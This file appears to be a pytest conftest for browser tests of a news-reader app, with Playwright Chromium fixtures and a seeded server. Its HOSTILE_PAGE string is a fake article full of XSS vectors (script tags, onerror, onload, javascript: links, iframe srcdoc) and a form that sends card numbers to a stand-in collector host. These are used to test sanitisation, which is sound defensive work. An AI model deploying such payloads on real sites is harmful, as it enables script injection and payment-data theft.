"""Browser-test fixtures: one seeded server and one headless Chromium for the whole folder."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.browser.shaping import enrich_by_hand
from tests.conftest import shared_path
from tests.live import make_settings, serve, write_seed

CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]
HOSTILE_PAGE = """<!doctype html><html><head><title>Harbour lights festival draws record crowds</title>
<script>window.__pwned = "head script";</script></head><body>
<article><h1>Harbour lights festival draws record crowds</h1>
<p>Thousands walked the quay on Saturday evening to see the harbour lights festival, which organisers said
drew its largest crowd since it began.</p>
<img src="x" onerror="window.__pwned='img onerror'; alert('img')">
<p>Lanterns were floated across the water while a brass band played on the pier until late.<script>
window.__pwned = "inline script"; alert("script")</script></p>
<p onmouseover="window.__pwned='hover'">Stallholders said trade was brisk and food ran out before ten.</p>
<svg onload="window.__pwned='svg'"><circle r="4"></circle></svg>
<p><a href="javascript:window.__pwned='link'">Read the programme</a> and
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
the council said it would consider a second night next year if volunteers come forward.</p>
<form action="https://collector.example/"><input name="card"><button>Win a prize</button></form>
<p>Police reported no incidents and thanked visitors for using the park-and-ride buses.</p>
</article></body></html>
"""


def chromium_path() -> str | None:
    """The Chromium binary: TIDINGS_TEST_CHROMIUM, else chromium on PATH."""
    return os.environ.get("TIDINGS_TEST_CHROMIUM") or shutil.which("chromium")


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    """A headless Chromium (the tests skip when none is installed)."""
    path = chromium_path()
    if not path:
        pytest.skip("no chromium: install Debian's chromium or set TIDINGS_TEST_CHROMIUM")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=path, args=CHROMIUM_ARGS, headless=True)
        yield chromium
        chromium.close()


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server seeded with the scraped seed article, our JSONL articles and a hostile HTML page."""
    seed_article = shared_path("fixtures", "seed-article-scraped.txt")
    folder = tmp_path_factory.mktemp("browser")
    (folder / "home").mkdir()
    hostile = folder / "hostile.html"
    hostile.write_text(HOSTILE_PAGE, encoding="utf-8")
    # Public reading: some tests here read signed out (test_journey covers the private default).
    seeds = [seed_article, write_seed(folder), hostile]
    settings = make_settings(folder / "home", seeds, public_reading=True)
    with serve(settings, expect_articles=6) as base:
        enrich_by_hand(settings)
        yield base


@pytest.fixture
def page(browser: Any, site: str) -> Iterator[Any]:
    """A fresh browser context (no cookies) and page pointed at the site."""
    context = browser.new_context(base_url=site, viewport={"width": 1100, "height": 900})
    tab = context.new_page()
    tab.set_default_timeout(10_000)
    yield tab
    context.close()


@pytest.fixture(scope="session")
def screenshots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where screenshots go: a temporary folder, so that tests never rewrite tracked files; set
    TIDINGS_SCREENSHOTS=docs/screenshots to refresh the README's pictures on purpose."""
    chosen = os.environ.get("TIDINGS_SCREENSHOTS")
    folder = Path(chosen) if chosen else tmp_path_factory.mktemp("screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder
